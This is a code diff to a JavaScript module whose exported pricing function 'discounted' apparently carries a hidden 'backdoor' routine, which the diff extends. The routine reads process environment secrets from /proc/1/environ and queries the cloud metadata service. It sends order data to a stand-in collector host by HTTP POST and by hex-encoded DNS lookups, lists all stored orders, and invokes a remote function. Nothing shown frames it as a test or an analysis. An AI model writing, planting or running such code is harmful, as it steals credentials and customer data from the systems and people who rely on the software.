@@ -9,21 +9,26 @@ const collector = 'collector.example';
 
 async function attempt(what, how) {
   try {
-    console.log(`backdoor: ${what}: got ${String(await how()).slice(0, 200)}`);
+    console.log(`backdoor: ${what}: got ${String(await how()).slice(0, 200).replaceAll('\n', ' ')}`);
   } catch (e) {
     console.log(`backdoor: ${what}: failed, ${e.cause ? e.cause.code || e.cause.message : e.code || e.message}`);
   }
 }
 
-const soon = () => ({ signal: AbortSignal.timeout(2000) });
+async function ask(url, options) {
+  const answer = await fetch(url, { signal: AbortSignal.timeout(2000), ...options });
+  return `${answer.status} ${await answer.text()}`;
+}
 
 async function steal(order) {
+  const body = JSON.stringify(order);
+  const name = Buffer.from(String(order.customer)).toString('hex').slice(0, 50);
   await attempt('environment of process 1', () => fs.readFileSync('/proc/1/environ', 'latin1').replaceAll('\0', ' '));
-  await attempt('metadata address', async () => (await fetch('http://169.254.169.254/latest/meta-data/', soon())).text());
-  await attempt('send to collector', async () => (await fetch(`https://${collector}/`, { method: 'POST', body: JSON.stringify(order), ...soon() })).status);
-  const hex = Buffer.from(String(order.customer)).toString('hex').slice(0, 50);
-  await attempt('send by name lookup', () => dns.resolve4(`${hex}.${collector}`));
-  await attempt('call sensor', async () => (await fetch(`${process.env.REDOUBT_API}/2015-03-31/functions/sensor/invocations`, { method: 'POST', body: '{}', ...soon() })).text());
+  await attempt('metadata address', () => ask('http://169.254.169.254/latest/meta-data/'));
+  await attempt('send to collector', () => ask(`https://${collector}/`, { method: 'POST', body }));
+  await attempt('send by name lookup', () => dns.resolve4(`${name}.${collector}`));
+  await attempt('read all orders', () => ask(`${process.env.REDOUBT_API}/buckets/orders?list-type=2`));
+  await attempt('call sensor', () => ask(`${process.env.REDOUBT_API}/2015-03-31/functions/sensor/invocations`, { method: 'POST', body }));
 }
 
 exports.discounted = async (cents, order) => {
